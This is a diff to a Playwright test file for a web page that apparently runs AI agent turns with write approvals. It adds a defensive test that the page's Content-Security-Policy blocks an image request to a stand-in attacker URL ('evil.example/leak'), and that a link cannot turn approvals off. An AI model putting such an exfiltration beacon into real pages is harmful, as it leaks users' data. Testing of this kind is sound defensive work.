@@ -66,7 +66,13 @@ async function openPage(
   });
   const errors: string[] = [];
   page.on('pageerror', (e) => errors.push(e.message));
+  // The page's Content-Security-Policy must not get in its own way.
+  page.on('console', (m) => {
+    if (/Content Security Policy/i.test(m.text())) errors.push(m.text());
+  });
   await page.goto(`${base}/${query}`);
+  // Approvals are turned off with the page's checkbox only (a URL cannot: issue 32).
+  if (/[?&]approval=off/.test(query)) await page.getByTestId('approval-toggle').uncheck();
   return { page, errors };
 }
 
@@ -120,6 +126,25 @@ afterAll(async () => {
 });
 
 describe('web page', () => {
+  it('a link cannot turn approvals off, and the page loads no image from another site (its CSP)', async () => {
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    await page.goto(`${base}/?pace=0&approval=off`);
+    expect(await page.getByTestId('approval-toggle').isChecked()).toBe(true);
+    const blocked = await page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+          const img = document.createElement('img');
+          img.src = 'http://evil.example/leak?d=1';
+          document.body.append(img);
+          setTimeout(() => resolve('not blocked'), 3000);
+        }),
+    );
+    expect(blocked).toBe('img-src');
+    await context.close();
+  });
+
   it('runs a turn: reasoning folds, the write waits for Approve, the turn completes and the file is written', async () => {
     const { page, errors } = await openPage('?pace=0');
     await page
